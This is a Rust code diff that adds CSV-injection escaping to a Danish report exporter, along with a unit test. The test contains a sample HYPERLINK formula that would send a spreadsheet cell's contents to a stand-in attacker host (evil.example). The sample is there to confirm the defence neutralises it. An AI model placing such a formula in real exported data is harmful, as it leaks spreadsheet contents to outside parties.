@@ -3,6 +3,11 @@
 //! with Danish regional settings), Danish column names, one row per activity and period, then
 //! one per citizen journalist and period. One rectangular table: an activity's row leaves the
 //! journalists' columns empty and the reverse, so Excel can filter by the group.
+//!
+//! Names come from people (an activity's, a journalist's): a cell that starts like a formula
+//! (`=`, `+`, `-`, `@`, a tab or a carriage return) is written with an apostrophe in front, so
+//! a spreadsheet shows it as text and never runs it ([`inert`], OWASP's advice on CSV
+//! injection).
 
 use super::{decimal, Counts, Line, Period, Report};
 use crate::i18n::Lang;
@@ -40,6 +45,7 @@ pub fn to_csv(lang: Lang, report: &Report) -> Result<Vec<u8>, csv::Error> {
         .terminator(csv::Terminator::CRLF)
         .from_writer(b"\xEF\xBB\xBF".to_vec());
     writer.write_record(COLUMNS.iter().map(|key| lang.text(key)))?;
+    let mut writer = InertWriter(writer);
     let groups = [
         ("figures-csv-activity", &report.by_activity),
         ("figures-csv-area", &report.by_focus_area),
@@ -85,10 +91,29 @@ pub fn to_csv(lang: Lang, report: &Report) -> Result<Vec<u8>, csv::Error> {
             writer.write_record(row)?;
         }
     }
+    let mut writer = writer.0;
     writer.flush()?;
     writer
         .into_inner()
         .map_err(|err| csv::Error::from(err.into_error()))
+}
+
+/// A cell as a spreadsheet must show it: as text, also when it starts like a formula.
+pub fn inert(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
+    }
+}
+
+/// A CSV writer whose every cell passes through [`inert`].
+struct InertWriter(csv::Writer<Vec<u8>>);
+
+impl InertWriter {
+    fn write_record(&mut self, row: Vec<String>) -> Result<(), csv::Error> {
+        self.0.write_record(row.iter().map(|cell| inert(cell).into_owned()))
+    }
 }
 
 fn row(lang: Lang, group: &str, line: &Line, period: &Period, counts: &Counts) -> Vec<String> {
@@ -116,4 +141,20 @@ fn row(lang: Lang, group: &str, line: &Line, period: &Period, counts: &Counts) -
         String::new(),
         String::new(),
     ]
+}
+
+#[cfg(test)]
+mod tests {
+    use super::inert;
+
+    #[test]
+    fn a_cell_that_starts_like_a_formula_is_text() {
+        let evil = "=HYPERLINK(\"https://evil.example/?x=\"&A2;\"Åbn\")";
+        assert_eq!(inert(evil), format!("'{evil}"));
+        for start in ["+1", "-1+2", "@SUM(A1)", "\tx", "\rx"] {
+            assert!(inert(start).starts_with('\''), "{start:?}");
+        }
+        assert_eq!(inert("Fællesspisning"), "Fællesspisning");
+        assert_eq!(inert("12,5"), "12,5");
+    }
 }
